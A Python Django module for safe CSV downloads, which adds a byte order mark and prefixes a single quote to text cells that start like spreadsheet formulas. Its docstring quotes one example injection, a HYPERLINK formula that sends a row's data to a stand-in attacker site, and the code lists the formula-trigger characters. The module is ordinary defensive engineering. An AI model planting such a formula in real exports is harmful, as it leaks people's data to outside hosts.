"""CSV files for a spreadsheet: UTF-8 with a byte order mark (so Excel reads names
correctly), and no cell a person typed read as a formula.

A name, job title or reason that starts with `=`, `+`, `-` or `@` (or a tab or carriage
return, which some spreadsheets skip before looking) would run as a formula in Excel or
LibreOffice when the file is opened: `=HYPERLINK("http://evil.example/?x="&A1,"Click")`
sends the row to someone else's site. OWASP's guidance is to start such a cell with a single
quote, which the spreadsheet shows as text and does not evaluate. Every CSV the product
writes goes through `csv_download`, so no export can forget it. Numbers the product computed
(counts, weeks) are written as numbers; only text is changed, and only when it starts so."""

from __future__ import annotations

import csv
from collections.abc import Iterable

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """The cell as a spreadsheet should show it: text starting like a formula gets a leading
    single quote; anything else (numbers included) is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` whose every row is neutralised first."""

    def __init__(self, stream):
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable):
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_download(filename: str) -> tuple[HttpResponse, SafeWriter]:
    """A response that downloads as `filename`, and the writer to fill it."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    return response, SafeWriter(response)
